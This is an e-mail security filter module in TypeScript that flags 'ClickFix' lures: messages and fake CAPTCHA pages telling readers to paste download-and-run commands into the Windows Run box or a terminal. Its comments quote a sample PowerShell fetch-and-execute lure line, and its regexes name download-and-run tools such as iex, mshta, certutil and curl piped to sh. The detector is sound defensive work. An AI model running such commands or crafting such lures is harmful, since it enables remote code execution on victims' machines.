// "ClickFix" by e-mail (inbound): "Outlook shows a certificate error. 1. Press the Windows key + R
// 2. Paste the line below (Ctrl+V) 3. Press Enter:  powershell -w h -nop -c "irm https://…/kb50 | iex"".
// No attachment and no link for a filter to judge: the reader downloads and runs the program
// himself, with his own rights, past every attachment and URL check.
//  - PASTE_COMMAND_LURE: the text (or an attached document's) holds a command line that downloads
//    and runs something (PowerShell with `irm`/`iwr`/`Invoke-WebRequest`/`DownloadString` and
//    `iex`, or an encoded command; `mshta` with a web address; `curl … | sh`, `bash -c "$(curl …)"`;
//    `certutil -urlcache`, `bitsadmin /transfer`), and tells the reader where to paste it: the Run
//    box (Windows key + R, in the offices' languages), a terminal, or Ctrl+V and Enter.
//    Or a page (the message's HTML or an attached HTML file) whose script puts a command line on
//    the clipboard (`navigator.clipboard.writeText("powershell …")`) while its text tells where to
//    paste it: ClickFix's fake CAPTCHA ("No soy un robot", then Windows + R, Ctrl + V, Enter), whose
//    command the reader never sees, so that what it runs need not be readable at all.
//    Or a page that poses as a human verification ("Verify you are human", "I'm not a robot",
//    reCAPTCHA, "Ich bin kein Roboter", "Я не робот") and whose steps name both the Run box and the
//    paste: the same fake CAPTCHA whose kit fetches the command from its server when the page opens,
//    so the page itself holds none. No verification asks its visitor to open the Run box.
// A vendor's support mail may quote a command; one that fetches a program from the web and runs
// it, to be pasted into the Run box, is the lure's alone; a page that copies a shell command for
// the reader to paste into the Run box has no honest use.
import { z } from 'zod';
import { readerTexts } from '../../content/document-text.ts';
import { comparableText, phrasePattern } from '../../content/phrases.ts';
import { decodeEntities } from '../../content/html.ts';
import type { Check, ParsedMessage } from '../types.ts';

/** a command line that downloads something and runs it (read as comparableText writes it: small letters) */
const DOWNLOAD_AND_RUN = new RegExp([
  // PowerShell: fetch and invoke, or an encoded command
  String.raw`(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,200}?(?:\b(?:irm|iwr|invoke-restmethod|invoke-webrequest|downloadstring|downloadfile|start-bitstransfer|net\.webclient)\b[^\n]{0,200}?(?:\biex\b|invoke-expression|\|\s*iex|start-process)|\s-(?:e|ec|enc|encodedcommand)\s+[a-z0-9+/=]{20,})`,
  String.raw`\b(?:iex|invoke-expression)\s*\(?\s*\(?\s*(?:irm|iwr|new-object\s+net\.webclient)`,
  // mshta, certutil, bitsadmin with a web address
  String.raw`\bmshta(?:\.exe)?\s+["']?https?:\/\/\S+`,
  String.raw`\bcertutil(?:\.exe)?\s+[^\n]{0,40}-urlcache[^\n]{0,80}https?:\/\/`,
  String.raw`\bbitsadmin(?:\.exe)?\s+\/transfer[^\n]{0,120}https?:\/\/`,
  // a shell fetching a script and running it (the macOS and Linux form)
  String.raw`\bcurl\s+[^\n|]{0,120}https?:\/\/[^\n|]{0,200}\|\s*(?:ba|z)?sh\b`,
  String.raw`\b(?:ba|z)?sh\s+-c\s+["']?\$\(\s*curl\s`,
].join('|'), 'i');

/** the keys that open the Run box, and the paste */
const RUN_BOX_KEYS = [
  String.raw`(?:windows|win|⊞)(?: key| logo key|-taste| taste|-tast)? ?\+ ?r(?![\p{L}\p{N}])`,
  String.raw`(?:tecla|tasto|klawisz\p{L}*|клавиш\p{L}*|πληκτρο) (?:de |di |z )?(?:windows|win) ?\+ ?r(?![\p{L}\p{N}])`,
  // the two keys in words: "Press and hold the Windows key ⊞ and press R" (the seventy-fourth pair's
  // fake trade-fair badge page), "halten Sie die Windows-Taste gedrückt und drücken Sie R"
  String.raw`(?:windows|win)(?: key| logo key|-taste| taste)?(?: ⊞)?(?: (?:gedruckt|premuto|wcisniety|нажатой|πατημενο))? (?:and|und|y|e|i|и|και) (?:(?:then|dann|luego|poi|nastepnie|затем|μετα) )?(?:press |drucken sie |drucke |pulse |pulsa |premi |premere |nacisnij |нажмите |πατηστε )?(?:the )?(?:key |letter |taste |tecla |tasto |klawisz |клавишу |πληκτρο )?["'„“]?r(?![\p{L}\p{N}])`,
];
const PASTE_KEY = String.raw`(?:ctrl|strg) ?\+ ?v`;
/** where the reader is to paste it: the Run box, a terminal, Ctrl+V and Enter */
const PASTE_WHERE = phrasePattern([
  ...RUN_BOX_KEYS,
  String.raw`(?:run box|run dialog|ausfuhren-dialog|dialogfeld ausfuhren|cuadro ejecutar|finestra esegui|okno uruchamiania|окно выполнить|παραθυρο εκτελεσης)`,
  PASTE_KEY,
  // not "PowerShell": the command names it itself
  String.raw`(?:terminal|eingabeaufforderung|command prompt|simbolo del sistema|prompt dei comandi|wiersz polecen|командн\p{L}* строк\p{L}*)`,
]);

/** the Run box and the paste, both named: "Press Windows + R, press CTRL + V, press Enter" */
const RUN_BOX = phrasePattern(RUN_BOX_KEYS);
const PASTE_KEYS = phrasePattern([PASTE_KEY]);
/** a script putting text on the clipboard, and a shell or a Windows program that runs others in it */
const CLIPBOARD_WRITE = /navigator\.clipboard\.writeText\s*\(|execCommand\s*\(\s*['"]copy['"]/i;
const SHELL_COMMAND = /\b(?:powershell|pwsh|mshta|msiexec|rundll32|wscript|cscript|conhost|certutil|bitsadmin)(?:\.exe)?\b|\bcmd(?:\.exe)?\s+\/[ck]\b|\bcurl\s+[^\n]{0,200}\|\s*(?:ba|z)?sh\b/i;
/** a page posing as a human verification, in the offices' languages (as comparableText reads: no accents, small letters) */
const HUMAN_CHECK = phrasePattern([
  'recaptcha', 'captcha', 'hcaptcha', String.raw`verify (?:that )?you are (?:a )?human`, String.raw`i(?:'|’)?m not a robot`, String.raw`i am not a robot`,
  String.raw`ich bin kein roboter`, String.raw`(?:bestatigen|verifizieren) sie, dass sie (?:ein )?mensch sind`, String.raw`no soy un robot`,
  String.raw`verifica(?:re)? (?:di essere|che sei) (?:un )?uman[oa]`, String.raw`non sono un robot`, String.raw`nie jestem robotem`,
  String.raw`я не робот`, String.raw`подтвердите, что вы (?:не робот|человек)`, String.raw`δεν ειμαι ρομποτ`,
  // the reader addressed: "επιβεβαιώσετε ότι δεν είστε ρομπότ" (the eighty-third pair's fake Rentalcars.com complaint, whose
  // mail itself names the portal's Windows + R and Ctrl + V)
  String.raw`you(?:'|’)?re not a robot`, String.raw`you are not a robot`, String.raw`(?:dass )?sie kein roboter sind`, String.raw`(?:que )?no (?:eres|es) un robot`,
  String.raw`(?:che )?non sei un robot`, String.raw`(?:ze |że )?nie jestes robotem`, String.raw`(?:ze |że )?nie jesteś robotem`, String.raw`что вы не робот`, String.raw`δεν ειστε ρομποτ`,
]);
/**
 * ClickFix's other pretext: an error, and a button that copies its "fix" ("Die Vorschau konnte nicht geladen werden … Klicken Sie
 * auf Lösung kopieren, drücken Sie Windows + R, fügen Sie mit Strg + V ein": the ninety-seventh pair's alarm-maintenance "report");
 * no document viewer repairs itself through the Run box
 */
const FIX_COPY = phrasePattern([
  String.raw`(?:copy|copy the) (?:fix|solution)`, String.raw`(?:losung|fix|korrektur) kopieren`, String.raw`copiar (?:la )?(?:solucion|correccion)`,
  String.raw`copia(?:re)? (?:la )?(?:soluzione|correzione)`, String.raw`kopiuj (?:rozwiazanie|poprawke)`, String.raw`скопировать (?:решение|исправление)`,
  String.raw`αντιγραφη (?:της )?(?:λυσης|διορθωσης)`,
]);
/** an attached page is read up to this many bytes (the fake CAPTCHA is a few kB) */
const PAGE_MAX_BYTES = 1_000_000;

/** The pages of a message: its HTML and its attached HTML files. */
function pagesOf(view: ParsedMessage): Array<{ where: string; html: string }> {
  const attached = view.attachments
    .filter((a) => a.mimeType === 'text/html' || /\.(?:s?html?|xhtml)$/i.test(a.filename ?? ''))
    .map((a) => ({ where: ` in the attached page ${a.filename ?? '(unnamed)'}`, html: Buffer.from(a.content.subarray(0, PAGE_MAX_BYTES)).toString('utf8') }));
  return [...(view.html ? [{ where: '', html: view.html }] : []), ...attached];
}

/**
 * A page whose script puts a shell command on the clipboard, and where its text says to paste it;
 * or a page that holds a shell command (a hidden text box the script copies) and whose steps name
 * both the Run box and the paste ("Windows + R", "CTRL + V"). Null when none.
 */
export function clipboardLure(view: ParsedMessage): { where: string; command: string | null; paste: string; copied: boolean; posing: string } | null {
  for (const page of pagesOf(view)) {
    const copied = CLIPBOARD_WRITE.test(page.html);
    // without a script that copies, the command is the page's own text to copy (a hidden text box), not a script's word
    const command = SHELL_COMMAND.exec(copied ? page.html : page.html.replace(/<script\b[\s\S]*?<\/script>/gi, ' '))?.[0] ?? null;
    // the page's words without its tags, shown or not: the steps appear once the box is ticked
    const words = comparableText(decodeEntities(page.html.replace(/<[^<>]*>/g, ' ')));
    const steps = RUN_BOX.test(words) && PASTE_KEYS.test(words);
    // a command the page copies or shows for the Run box; or none, on a fake human verification that names both steps
    if (command ? !copied && !steps : !(steps && (HUMAN_CHECK.test(words) || FIX_COPY.test(words)))) continue;
    const paste = PASTE_WHERE.exec(words)?.[0];
    if (paste) return { where: page.where, command, paste, copied, posing: HUMAN_CHECK.test(words) ? 'a human verification' : 'an error with a fix to copy' };
  }
  return null;
}

export const pasteCommandOptionsSchema = z.strictObject({});
export type PasteCommandOptions = z.infer<typeof pasteCommandOptionsSchema>;

/** The download-and-run command and where it is to be pasted in texts (see readerTexts), each the first found. */
export function pasteCommandSigns(texts: ReadonlyArray<{ text: string }>): { command: string | null; where: string | null } {
  let command: string | null = null, where: string | null = null;
  for (const t of texts) {
    command ??= DOWNLOAD_AND_RUN.exec(t.text)?.[0] ?? null;
    where ??= PASTE_WHERE.exec(comparableText(t.text))?.[0] ?? null;
  }
  return { command, where };
}

/** the command shown in the detail, at most this long */
const SHOWN = 100;

export const pasteCommandCheck: Check<'data', PasteCommandOptions> = {
  name: 'paste-command',
  phase: 'data',
  symbols: ['PASTE_COMMAND_LURE'],
  options: pasteCommandOptionsSchema,
  directions: ['inbound'],
  async run(ctx) {
    if (ctx.session.trusted) return [];
    const view = await ctx.parsed();
    const clipboard = clipboardLure(view);
    if (clipboard) {
      const how = !clipboard.command ? `a page posing as ${clipboard.posing} tells to open the Run box and paste`
        : `${clipboard.copied ? 'a page\'s script puts a command on the clipboard' : 'a page holds a command for the Run box'} ("${clipboard.command}"…)`;
      return [{ symbol: 'PASTE_COMMAND_LURE', detail: `${how}${clipboard.where}, to paste at "${clipboard.paste}"` }];
    }
    // the attached pages' words too: a page that shows the command and the Run box ("Drücken Sie Windows-Taste + R … mshta
    // https://…", the sixty-fourth pair's "complaint" with its photos as an HTML file) is the mail's own text moved into a file
    const pageTexts = pagesOf(view).filter((p) => p.where).map((p) => ({ text: decodeEntities(p.html.replace(/<[^<>]*>/g, ' ')) }));
    const texts = [...await readerTexts(view), ...pageTexts];
    // the command first: almost no mail holds one, and where to paste is common words
    if (!texts.some((t) => DOWNLOAD_AND_RUN.test(t.text))) return [];
    const { command, where } = pasteCommandSigns(texts);
    if (!command || !where) return [];
    const shown = command.replace(/\s+/g, ' ');
    return [{ symbol: 'PASTE_COMMAND_LURE', detail: `a command that downloads and runs: "${shown.length > SHOWN ? `${shown.slice(0, SHOWN - 3)}...` : shown}", to paste at "${where}"` }];
  },
};

export default pasteCommandCheck;
